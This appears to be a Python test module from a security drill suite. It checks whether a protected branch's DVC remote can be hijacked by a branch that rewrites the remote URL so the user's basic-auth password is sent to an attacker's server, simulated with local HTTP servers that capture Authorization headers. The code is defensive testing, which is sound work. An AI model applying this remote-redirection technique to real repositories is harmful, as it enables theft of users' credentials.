"""Attacks on the remote: a branch changes its address, to get the user's password.

Two servers of the drill listen on this machine: the protected branch's remote and the attacker's.
"""

from __future__ import annotations

import base64
import shutil
import threading
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from ml_assets.proof.drill.attack import Attack, CommandAnswer, ask
from resources.git.command import call_git, decode_output
from resources.git.repository import Branch

_CONFIG = ".dvc/config"
_NAME = "drill"
_PASSWORD = "password of the drill"  # nosec B105  # no account has it


class RemoteAttacks:
    """Attacks by a branch of a copy of a project.

    Args:
        root: of the copy.
        model: location of a model.
        protected: the protected branch.
    """

    def __init__(self, root: Path, model: str, protected: Branch | None) -> None:
        self._root = root
        self._protected = protected
        self._model = model

    def attacks(self) -> Sequence[Attack]:
        """Return the attacks."""
        pull = ("run", "--quiet", "--pull")
        return (
            Attack(
                "a remote that a branch redirects",
                pull,
                self._redirect,
                self._is_ignored,
                self._configure,
            ),
        )

    def _configure(self) -> None:
        """Configure a remote on the protected branch, and the user's password for it."""
        self._own, self._attacker = _Host(), _Host()
        protected = self._protected
        if protected is None:
            raise LookupError("no protected branch")
        self._dvc("remote", "add", "--force", "--default", _NAME, self._own.url)
        self._dvc("remote", "modify", _NAME, "auth", "basic")
        commit = self._commit(protected.commit)
        refs = (f"refs/remotes/{protected.name}", f"refs/heads/{protected.name}")
        found = self._git("for-each-ref", "--format=%(refname)", *refs).splitlines()
        self._git("update-ref", found[0] if refs[0] not in found else refs[0], commit)
        self._dvc("remote", "modify", "--local", _NAME, "user", "drill")
        self._dvc("remote", "modify", "--local", _NAME, "password", _PASSWORD)

    def _redirect(self) -> None:
        """Change the address on a branch, in a clone without data."""
        self._git("checkout", "--quiet", "-b", f"{_NAME}-branch")
        self._dvc("remote", "modify", _NAME, "url", self._attacker.url)
        self._commit()
        shutil.rmtree(self._root / ".dvc" / "cache", ignore_errors=True)
        target = self._root / self._model
        shutil.rmtree(target) if target.is_dir() else target.unlink()
        ask(self._root, "dvc", "fetch", self._model)
        if not self._attacker.has_password():
            raise LookupError("DVC itself does not send the password there")
        self._attacker.got.clear()

    def _is_ignored(self, answer: CommandAnswer) -> bool:
        """Return whether only the remote of the protected branch was asked."""
        for host in (self._own, self._attacker):
            host.shutdown()
            host.server_close()
        if not self._own.got and not self._attacker.got:
            raise LookupError(f"no remote was asked: {answer.said}")
        return not self._attacker.got

    def _commit(self, *parents: str) -> str:
        """Commit DVC's configuration, on top of HEAD and other commits."""
        self._git("add", "--force", _CONFIG)
        above = dict.fromkeys((self._git("rev-parse", "HEAD"), *parents))
        words = [word for parent in above for word in ("-p", parent)]
        who = ("-c", "user.name=drill", "-c", "user.email=drill@localhost")
        tree = self._git("write-tree")
        commit = self._git(*who, "commit-tree", tree, *words, "-m", "drill")
        self._git("update-ref", "HEAD", commit)
        return commit

    def _git(self, *words: str) -> str:
        return decode_output(call_git(self._root, *words))

    def _dvc(self, *words: str) -> None:
        done = ask(self._root, "dvc", *words)
        if done.returncode != 0:
            raise LookupError(f"dvc {' '.join(words[:2])}: {done.stderr.strip()[-200:]}")


class _Host(ThreadingHTTPServer):
    """A host that asks for a password, and keeps all requests."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Asking)
        self.got: list[str] = []
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/data"

    def has_password(self) -> bool:
        coded = base64.b64encode(f"drill:{_PASSWORD}".encode()).decode("ascii")
        return any(coded in request for request in self.got)


class _Asking(BaseHTTPRequestHandler):
    server: _Host

    def _answer(self) -> None:
        self.server.got.append(f"{self.path}\n{self.headers}")
        self.send_response(404 if "Authorization" in self.headers else 401)
        self.send_header("WWW-Authenticate", "Basic realm=drill")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_PUT = _answer

    def log_message(self, format: str, *args: object) -> None:
        """Write no log."""
